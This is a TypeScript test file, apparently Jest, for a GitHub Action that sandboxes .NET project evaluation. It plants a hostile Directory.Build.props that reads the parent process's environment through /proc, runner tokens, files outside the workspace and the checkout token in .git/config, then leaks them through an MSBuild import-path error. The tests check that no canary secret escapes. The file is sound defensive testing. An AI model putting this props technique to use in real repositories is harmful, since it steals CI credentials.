// The evaluation sandbox, attacked as a hostile pull request would: a Directory.Build.props
// that reads the evaluating process's parent's environment through /proc, the runner's
// variables and files outside the workspace, and puts what it found into an import path so
// that MSBuild's error would print it. The action runs as a runner runs it, with a .NET SDK on
// its PATH (as GitHub's runners have), canary tokens in its environment, and the token
// actions/checkout leaves in .git/config.
import * as fs from 'node:fs'
import * as path from 'node:path'
import { runAction, WORK, type ActionRun } from './harness.js'

const TOKEN = 'ghs_CanaryGithubToken0123456789abcdef'
const RUNTIME = 'CanaryRuntimeToken-9f8e7d6c5b4a'
const FILE_TEMP = 'CanaryRunnerTempFile-1a2b3c'
const FILE_HOME = 'CanaryHomeFile-4d5e6f'
/** What actions/checkout (persist-credentials) leaves in .git/config: the job's token, base64. */
const GIT_HEADER = Buffer.from('x-access-token:ghs_CanaryCheckoutToken42').toString('base64')
const CANARIES = [TOKEN, RUNTIME, FILE_TEMP, FILE_HOME, GIT_HEADER]

let ws = ''
let outside = ''

/** Everything a user or a later step sees: the log (less the masks the runner consumes), the summary, the outputs, the saved state. */
function seen(run: ActionRun): string {
  const log = run.stdout
    .split('\n')
    .filter((l) => !l.startsWith('::add-mask::'))
    .join('\n')
  const state = fs.readFileSync(path.join(run.runnerTemp, 'state'), 'utf8')
  return [log, run.summary, JSON.stringify(run.outputs), state].join('\n')
}

function errorLine(run: ActionRun): string {
  return decodeURIComponent((run.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? '').replace(/%0A/g, '\n').replace(/%25/g, '%'))
}

beforeAll(() => {
  ws = path.join(WORK, 'sandbox-hostile')
  outside = path.join(WORK, 'sandbox-hostile-outside')
  for (const d of [ws, outside]) fs.rmSync(d, { recursive: true, force: true })
  fs.mkdirSync(path.join(ws, 'app'), { recursive: true })
  fs.mkdirSync(outside, { recursive: true })
  // Files the runner's user can read outside the workspace: one in a RUNNER_TEMP-like folder, one in HOME.
  fs.writeFileSync(path.join(outside, 'canary.txt'), `${FILE_TEMP}\n`)
  fs.writeFileSync(path.join(outside, 'home-canary.txt'), `${FILE_HOME}\n`)
  fs.mkdirSync(path.join(ws, '.git'))
  fs.writeFileSync(path.join(ws, '.git/config'), `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${GIT_HEADER}\n`)
  const read = (f: string): string => `$([System.IO.File]::ReadAllText('${f}').Trim())`
  fs.writeFileSync(
    path.join(ws, 'Directory.Build.props'),
    `<Project>
  <PropertyGroup>
    <Stat>$([System.IO.File]::ReadAllText('/proc/self/stat'))</Stat>
    <ParentPid>$([System.Text.RegularExpressions.Regex]::Match($(Stat), '^\\d+ \\(.*\\) \\S (\\d+)').Groups[1].Value)</ParentPid>
    <ParentEnv Condition="Exists('/proc/$(ParentPid)/environ')">$([System.IO.File]::ReadAllText('/proc/$(ParentPid)/environ'))</ParentEnv>
    <FromParent>$([System.Text.RegularExpressions.Regex]::Match($(ParentEnv), '(INPUT_GITHUB-TOKEN|ACTIONS_RUNTIME_TOKEN)=[^\\x00]*').Value)</FromParent>
    <FromParent2>$([System.Text.RegularExpressions.Regex]::Match($(ParentEnv), 'ACTIONS_RUNTIME_TOKEN=[^\\x00]*').Value)</FromParent2>
    <FromEnv>$(ACTIONS_RUNTIME_TOKEN)$(INPUT_SECRETS)</FromEnv>
    <FromTemp Condition="Exists('${outside}/canary.txt')">${read(`${outside}/canary.txt`)}</FromTemp>
    <FromHome Condition="Exists('${outside}/home-canary.txt')">${read(`${outside}/home-canary.txt`)}</FromHome>
    <PidOne>${read('/proc/1/comm')}</PidOne>
    <GitConfig Condition="Exists('$(MSBuildThisFileDirectory).git/config')">$([System.IO.File]::ReadAllText('$(MSBuildThisFileDirectory).git/config'))</GitConfig>
    <FromGit>$([System.Text.RegularExpressions.Regex]::Match($(GitConfig), 'basic [A-Za-z0-9+/=]+').Value)</FromGit>
  </PropertyGroup>
  <Import Project="leak/p1-$(FromParent)-p2-$(FromParent2)-e-$(FromEnv)-t-$(FromTemp)-h-$(FromHome)-g-$(FromGit)-pid1-$(PidOne).props" />
</Project>
`
  )
  fs.writeFileSync(
    path.join(ws, 'app/App.csproj'),
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net10.0</TargetFramework><PublishAot>true</PublishAot></PropertyGroup></Project>\n'
  )
  fs.writeFileSync(path.join(ws, 'app/Program.cs'), 'System.Console.WriteLine(1);\n')
})

afterAll(() => {
  for (const d of [ws, outside]) fs.rmSync(d, { recursive: true, force: true })
})

const canaryEnv = { ACTIONS_RUNTIME_TOKEN: RUNTIME, INPUT_SECRETS: `LEAK=${RUNTIME}` }

describe('a hostile Directory.Build.props reads nothing of the runner', () => {
  test('build: the evaluation fails on the missing import, and no token, variable or file of the runner is in the log, summary, outputs or state', () => {
    const run = runAction(ws, { project: 'app', 'github-token': TOKEN, build: 'false' }, { hostDotnet: true, env: canaryEnv })
    expect(run.code).not.toBe(0)
    const all = seen(run)
    for (const c of CANARIES) expect(all).not.toContain(c)
    const error = errorLine(run)
    // What the evaluation found, as MSBuild reported it: nothing of the runner, and a PID 1 of its own (the sandbox's driver).
    expect(error).toMatch(/MSB4019 at .*Directory\.Build\.props:\d+: /)
    expect(error).toContain('leak/p1--p2--e--t--h--g--pid1-bash.props')
  })

  test('discover: the same, with every project evaluated in the one sandbox', () => {
    const run = runAction(ws, { mode: 'discover', project: '.', 'github-token': TOKEN }, { hostDotnet: true, env: canaryEnv })
    expect(run.code).not.toBe(0)
    const all = seen(run)
    for (const c of CANARIES) expect(all).not.toContain(c)
    expect(errorLine(run)).toContain('leak/p1--p2--e--t--h--g--pid1-bash.props')
  })
})
